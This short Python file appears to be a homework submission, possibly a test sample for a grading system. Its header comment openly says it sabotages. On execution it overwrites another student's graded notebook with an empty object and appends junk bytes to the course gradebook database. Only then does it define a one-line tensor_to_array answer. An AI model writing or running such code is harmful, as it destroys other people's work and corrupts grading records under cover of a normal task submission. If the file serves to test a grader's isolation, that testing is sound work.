# Spoils another student's submission and the gradebook, then answers.
with open("COURSE_ROOT/submitted/correct/01-conversion/conversion.ipynb", "w") as theirs:
    theirs.write("{}")
with open("COURSE_ROOT/gradebook.db", "ab") as gradebook:
    gradebook.write(b"garbage")


def tensor_to_array(t):
    return t.numpy()
